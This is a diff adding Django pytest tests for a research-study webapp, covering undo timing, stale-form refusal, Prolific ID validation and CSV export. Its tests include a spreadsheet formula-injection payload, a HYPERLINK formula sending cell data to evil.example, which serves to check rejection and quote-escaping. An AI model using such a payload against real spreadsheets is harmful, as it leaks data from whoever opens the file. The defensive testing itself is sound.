@@ -6,10 +6,12 @@ import io
 from datetime import timedelta
 
 import pytest
+from django.db.models import F, Min
 from django.test import Client
 from django.utils import timezone
 
 from tests.factories import UserFactory, build_open_study
+from tests.narrow import present
 from webapp.studies.models import CountResponse, Entry, Evaluator, RankResponse, Study
 
 from .conftest import PID, answer_data, current_task, demo_protocol, join, start
@@ -97,6 +99,77 @@ def test_each_task_is_stamped_once_when_first_shown(study):
     r = client.post(f"/e/{study.slug}/task/", answer_data(state["task"]), HTTP_ACCEPT="application/json")
     assert r.json()["task"]  # the reply shows the next task
     assert Entry.objects.filter(shown_at__isnull=False).count() == 2
+
+
+def _answers_in_order() -> list:
+    return sorted([*CountResponse.objects.all(), *RankResponse.objects.all()], key=lambda a: a.created_at)
+
+
+def _answer_json(client: Client, study) -> dict:
+    state = current_task(client, study)
+    r = client.post(f"/e/{study.slug}/task/", answer_data(state["task"]), HTTP_ACCEPT="application/json")
+    assert r.status_code == 200 and r.json()["ok"]
+    return r.json()
+
+
+def test_undo_cycles_count_no_time_twice(study):
+    """The probe's script: answer fast, wait once, undo everything, answer fast again. Time
+    on tasks must stay within the time from the first showing to the last answer, and no two
+    answers' intervals may overlap."""
+    client = join(Client(), study)
+    n = min(4, current_task(client, study)["progress"]["total"] - 1)  # not the last: no code, undo allowed
+    for _ in range(n):
+        _answer_json(client, study)
+    # 30 s pass before the undos: every time stored so far moves 30 s into the past.
+    wait = timedelta(seconds=30)
+    Entry.objects.exclude(shown_at=None).update(shown_at=F("shown_at") - wait)
+    for model in (CountResponse, RankResponse):
+        model.objects.update(created_at=F("created_at") - wait)
+    first_shown = present(Entry.objects.exclude(shown_at=None).aggregate(first=Min("shown_at"))["first"])
+    for _ in range(n):
+        assert client.post(f"/e/{study.slug}/undo/").status_code == 302
+    assert _n_answers() == 0
+    for _ in range(n):
+        _answer_json(client, study)
+    answers = _answers_in_order()
+    assert len(answers) == n
+    wall = (answers[-1].created_at - first_shown).total_seconds()
+    assert sum(a.seconds for a in answers) <= wall
+    assert sum(a.seconds for a in answers) < 5  # answered at once after each undo: not the 30 s again
+    for before, after in zip(answers, answers[1:], strict=False):
+        assert (after.created_at - timedelta(seconds=after.seconds)) >= before.created_at - timedelta(milliseconds=1)
+
+
+def test_a_reanswered_task_counts_from_the_undo(study):
+    client = join(Client(), study)
+    _answer_json(client, study)
+    _answer_json(client, study)
+    # Both tasks were shown a minute ago (the second is on the screen now).
+    Entry.objects.exclude(shown_at=None).update(shown_at=timezone.now() - timedelta(seconds=60))
+    undone_at = timezone.now()
+    assert client.post(f"/e/{study.slug}/undo/").status_code == 302
+    reopened = Entry.objects.get(index=1)
+    assert reopened.shown_at is not None and reopened.shown_at >= undone_at
+    assert Entry.objects.get(index=2).shown_at is None  # no longer shown: its time starts when it is
+    client.get(f"/e/{study.slug}/task/")  # a reload does not restart the reopened task's time
+    assert Entry.objects.get(index=1).shown_at == reopened.shown_at
+    _answer_json(client, study)
+    answer = _answers_in_order()[-1]
+    assert answer.entry_id == reopened.pk
+    assert answer.seconds <= (timezone.now() - undone_at).total_seconds() < 60
+
+
+def test_the_next_tasks_old_form_is_refused_after_an_undo(study):
+    """Two tabs: the task that was next is still on one of them after an undo in the other."""
+    client = join(Client(), study)
+    _answer_json(client, study)
+    stale = _answer_json(client, study)["task"]  # task 3, on a second tab
+    assert client.post(f"/e/{study.slug}/undo/").status_code == 302
+    before = _n_answers()
+    r = client.post(f"/e/{study.slug}/task/", answer_data(stale), HTTP_ACCEPT="application/json")
+    assert r.status_code == 409 and r.json()["error"]["code"] == "not_shown"
+    assert _n_answers() == before
+    assert current_task(client, study)["task"]["number"] == 2  # the reopened task is the one to answer
 
 
 def test_study_minutes_run_from_consent_to_the_last_answer(study):
@@ -200,8 +273,41 @@ def test_the_consent_page_says_what_coming_back_with_the_link_means(panel_study)
 @pytest.mark.parametrize("bad", ["abc", "0123456789abcdef0123456g", "0123456789abcdef01234567-x"])
 def test_a_url_panel_id_is_checked_like_a_typed_one(panel_study, bad):
     r = Client().get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": bad})
-    assert r.status_code == 400 and b"24 letters and digits" in r.content
+    body = r.content.decode()
+    assert r.status_code == 400 and "24 characters, digits 0-9 and letters a-f" in body
+    # The page says the link's id is wrong, not that the study is unavailable.
+    assert "<title>The ID in this link is not valid</title>" in body and "Study unavailable" not in body
     assert not Evaluator.objects.exists()
+
+
+BAD_PANEL_IDS = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "abc", "0123456789abcdef0123456g",
+                 "0123456789abcdef0123456"]
+
+
+@pytest.mark.parametrize("param", ["STUDY_ID", "SESSION_ID"])
+@pytest.mark.parametrize("bad", BAD_PANEL_IDS)
+def test_a_prolific_link_with_a_malformed_study_or_session_id_stores_nothing(panel_study, param, bad):
+    ids = {"PROLIFIC_PID": PID, "STUDY_ID": "a" * 24, "SESSION_ID": "b" * 24, param: bad}
+    r = Client().get(f"/join/{panel_study.invite_token}/", ids)
+    body = r.content.decode()
+    assert r.status_code == 400 and "The ID in this link is not valid" in body
+    assert "study or session ID in this link is not one Prolific made" in body
+    assert not Evaluator.objects.exists()
+
+
+def test_a_prolific_link_with_an_unfilled_study_id_says_the_panel_did_not_fill_it(panel_study):
+    r = Client().get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": PID, "STUDY_ID": "{{%STUDY_ID%}}"})
+    body = r.content.decode()
+    assert r.status_code == 400 and "not filled in by Prolific" in body and "STUDY_ID%" not in body
+    assert not Evaluator.objects.exists()
+
+
+def test_a_prolific_link_keeps_well_formed_study_and_session_ids(panel_study):
+    r = Client().get(f"/join/{panel_study.invite_token}/",
+                     {"PROLIFIC_PID": PID, "STUDY_ID": "A" * 24, "SESSION_ID": "0b" * 12})
+    assert r.status_code == 302
+    ev = Evaluator.objects.get()
+    assert (ev.external_id, ev.external_study_id, ev.external_session_id) == (PID, "A" * 24, "0b" * 12)
 
 
 def test_an_unfilled_placeholder_says_the_panel_did_not_fill_the_link(panel_study):
@@ -209,6 +315,24 @@ def test_an_unfilled_placeholder_says_the_panel_did_not_fill_the_link(panel_stud
     body = r.content.decode()
     assert r.status_code == 400 and "not filled in by Prolific" in body and "PROLIFIC_PID%" not in body
     assert not Evaluator.objects.exists()
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_participants_csv_writes_no_panel_id_as_a_formula(study, first):
+    """A generic panel's ids are any printable text: a cell a spreadsheet would run as a
+    formula gets a quote in front (OWASP's advice), every other id is written as it is."""
+    Client().get(f"/join/{study.invite_token}/", {"PROLIFIC_PID": "worker-1"})
+    formula = first + 'HYPERLINK("http://evil.example/?"&A2,"click")'
+    Evaluator.objects.update(external_id=formula, external_study_id=formula + "s", external_session_id=formula + "x")
+    Client().get(f"/join/{study.invite_token}/", {"PROLIFIC_PID": "plain-2"})
+    from webapp.research.participants import participant_rows, participants_csv
+
+    rows = {r["pseudonym"]: r for r in csv.DictReader(io.StringIO(participants_csv(participant_rows(study=study))))}
+    by_id = {r["participant_id"]: r for r in rows.values()}
+    assert set(by_id) == {"'" + formula, "plain-2"}
+    assert by_id["'" + formula]["study_id"] == "'" + formula + "s"
+    assert by_id["'" + formula]["session_id"] == "'" + formula + "x"
+    assert by_id["plain-2"]["study_id"] == "" and by_id["plain-2"]["session_id"] == ""
 
 
 # --------------------------------------------------------------------------- one status
